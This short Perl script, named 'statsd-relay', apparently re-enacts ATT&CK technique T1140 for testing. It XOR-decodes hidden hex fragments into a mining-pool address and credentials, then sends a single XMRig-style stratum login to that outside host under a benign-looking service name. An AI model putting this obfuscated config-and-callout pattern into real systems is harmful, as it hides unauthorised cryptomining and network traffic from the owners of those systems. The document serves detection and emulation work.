#!/usr/bin/perl
# statsd-relay (harmless re-enactment of T1140): hex fragments are concatenated, packed to bytes
# and XORed with a repeating 3-byte key in this process's memory; the decoded JSON names a
# stratum pool, a (fake) wallet and a password, and the relay logs in to that pool with them:
# the decoded stage is sent to the network. Bounded: one login, one answer, hang up.
use strict;
use warnings;
use IO::Socket::INET;

my @f = (
    '681537615b6029153167452367422f3d59237d58327c582e',
    '3e5a2b61452d611936764436311b60635830671578220376',
    '27036e31423176456029157627712378521276452e4b5830',
    '4456732252365f7a154402007e6f2d640614654f1b22411a',
    '7e447a444125256e2b21762c556438420420205d2b40510f',
    '4b6d286644297a413726710f245974710f0522642a20417a',
    '635c76644611524d2a7e156e3147236044602915307a5072',
    '22153f',
);
my $k = "\x13\x37\x42";
my $raw = pack('H*', join('', @f));
my $cfg = '';
for my $i (0 .. length($raw) - 1) {
    $cfg .= chr(ord(substr($raw, $i, 1)) ^ ord(substr($k, $i % 3, 1)));
}
my %c = $cfg =~ /"(\w+)":"?([^",}]+)"?/g;
print "statsd-relay: upstream $c{url}:$c{port}\n";
my $s = IO::Socket::INET->new(PeerAddr => $c{url}, PeerPort => $c{port}, Proto => 'tcp', Timeout => 5)
    or do { print "statsd-relay: upstream down\n"; exit 0 };
print $s qq({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"$c{user}","pass":"$c{pass}","agent":"XMRig/6.20.0","algo":["rx/0"]}}\n);
$s->timeout(5);
my $line = <$s>;
print "statsd-relay: ", (defined $line ? substr($line, 0, 120) : "no answer"), "\n";
close $s;
exit 0;
